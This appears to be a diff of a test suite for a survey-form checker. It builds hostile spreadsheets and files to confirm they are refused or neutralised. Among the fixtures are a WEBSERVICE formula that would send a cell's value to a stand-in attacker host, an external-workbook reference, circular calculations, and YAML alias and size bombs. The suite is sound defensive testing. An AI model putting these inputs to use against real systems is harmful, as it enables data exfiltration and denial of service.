@@ -14,6 +14,17 @@ function workbook(sheets: Readonly<Record<string, Cells>>): Uint8Array {
   return new Uint8Array(XLSX.write(book, { type: 'buffer', bookType: 'xlsx', compression: true }) as Uint8Array)
 }
 
+function withFormula(formula: string, value: string): Uint8Array {
+  const book = XLSX.utils.book_new()
+  const sheet = XLSX.utils.aoa_to_sheet([
+    ['type', 'name', 'label'],
+    ['text', 'a', 'x'],
+  ])
+  sheet.C2 = { t: 's', v: value, f: formula }
+  XLSX.utils.book_append_sheet(book, sheet, 'survey')
+  return new Uint8Array(XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Uint8Array)
+}
+
 const csv = (header: string, rows: string) => new TextEncoder().encode(`${header}\n${rows}`)
 const many = (n: number, row: (i: number) => string) => Array.from({ length: n }, (_, i) => row(i)).join('\n')
 
@@ -86,6 +97,30 @@ const forms: Readonly<Record<string, readonly [form: Uint8Array | string, says: 
     `${settings}x: &a [${'1,'.repeat(9)}]\n${many(9, (i) => `x${i}: &a${i} [${`*a${i === 0 ? '' : i - 1},`.repeat(9)}]`)}\nsurvey: []\n`,
     'Excessive alias count',
   ],
+  'questions that each read hundreds of others in a circle': [
+    csv(
+      'type,name,calculation',
+      many(
+        800,
+        (i) => `calculate,a${i},${Array.from({ length: 300 }, (_, j) => `\${a${(i + j + 1) % 800}}`).join(' + ')}`,
+      ),
+    ),
+    'in a circle',
+  ],
+  'sixty thousand questions in YAML': [
+    `${settings}survey:\n${many(60_000, (i) => `  - { type: text, name: a${i} }`)}\n`,
+    'is the most',
+  ],
+  'a formula that reads from the web': [
+    withFormula('WEBSERVICE("http://jahat.example/?q="&A1)', 'Nama?'),
+    'reads from outside the file',
+  ],
+  'a formula that reads another workbook': [
+    withFormula("'[gaji.xlsx]Sheet1'!A1", 'Nama?'),
+    'reads from outside the file',
+  ],
+  'a formula that nobody computed': [withFormula('A1&"?"', ''), 'formula without a value'],
+  'nothing at all': ['  \n', 'The file is empty'],
   'a name that is the root of every object': [csv('type,name', 'text,__proto__'), 'cannot be a name'],
 }
 
@@ -104,16 +139,31 @@ describe('a form that means harm is refused in bounded time', () => {
 
 describe('what a workbook computes is read as it stands', () => {
   test('a formula is its last value, and never run or passed on', () => {
-    const book = XLSX.utils.book_new()
-    const sheet = XLSX.utils.aoa_to_sheet([
-      ['type', 'name', 'label'],
-      ['text', 'a', 'x'],
-    ])
-    sheet.C2 = { t: 's', v: 'Nama?', f: 'WEBSERVICE("http://jahat.example/?q="&A1)' }
-    XLSX.utils.book_append_sheet(book, sheet, 'survey')
-    const { source } = checkForm(new Uint8Array(XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Uint8Array))
+    const { source, findings } = checkForm(withFormula('"Nama"&"?"', 'Nama?'))
     expect(source?.survey[0]?.label).toEqual({ id: 'Nama?' })
-    expect(JSON.stringify(source)).not.toContain('WEBSERVICE')
+    expect(JSON.stringify(source)).not.toContain('Nama"')
+    expect(findings.find(({ code }) => code === 'formula')).toMatchObject({ sheet: 'survey', row: 2, column: 'C' })
+  })
+
+  test('of findings without end a hundred are told, and how many more there are', () => {
+    const { findings } = checkForm(
+      csv(
+        'type,name',
+        many(700, (i) => `text,a${i}`),
+      ),
+    )
+    expect(findings.filter(({ code }) => code === 'no_label')).toHaveLength(101)
+    expect(findings.findLast(({ code }) => code === 'no_label')?.message).toContain('600 more')
+  })
+
+  test('questions that each read hundreds of others are ready in time', () => {
+    const reads = (i: number) => Array.from({ length: Math.min(i, 300) }, (_, j) => `\${a${i - j - 1}}`).join(' + ')
+    const began = performance.now()
+    const { form } = checkForm(
+      csv('type,name,calculation', `calculate,a0,1\n${many(799, (i) => `calculate,a${i + 1},${reads(i + 1)}`)}`),
+    )
+    expect(form?.dependants.get('a0')).toHaveLength(799)
+    expect(performance.now() - began).toBeLessThan(8_000)
   })
 
   test('a pattern that takes others exponential time is judged at once', () => {
